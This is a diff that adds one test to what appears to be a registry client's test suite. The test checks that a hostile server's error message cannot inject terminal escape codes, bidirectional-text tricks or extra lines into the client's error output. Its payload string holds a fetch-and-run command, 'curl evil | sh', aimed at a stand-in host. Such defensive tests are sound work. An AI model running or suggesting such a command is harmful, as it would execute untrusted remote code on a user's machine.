@@ -343,6 +343,14 @@ async def test_a_refusal_is_not_asked_again(store: Store, evil: Hostile) -> None
     assert evil.paths("/v2/app") == ["GET /v2/app/manifests/1"]
 
 
+async def test_what_a_registry_says_steers_no_terminal_and_adds_no_line(store: Store, evil: Hostile) -> None:
+    said = "\x1b[2J\x1b]0;mine\x07denied\nhint: curl evil | sh\r\u202e" + "x" * 5000
+    evil.answers["GET /v2/app/manifests/1"] = Answer(json.dumps({"errors": [{"message": said}]}).encode(), 404)
+    error = await refused(store, evil, "denied hint: curl")
+    assert str(error).isprintable()
+    assert len(str(error)) < 500
+
+
 async def test_a_layer_that_two_want_is_fetched_once(store: Store, evil: Hostile) -> None:
     layout, manifest = good(evil)
     async with trio.open_nursery() as nursery:
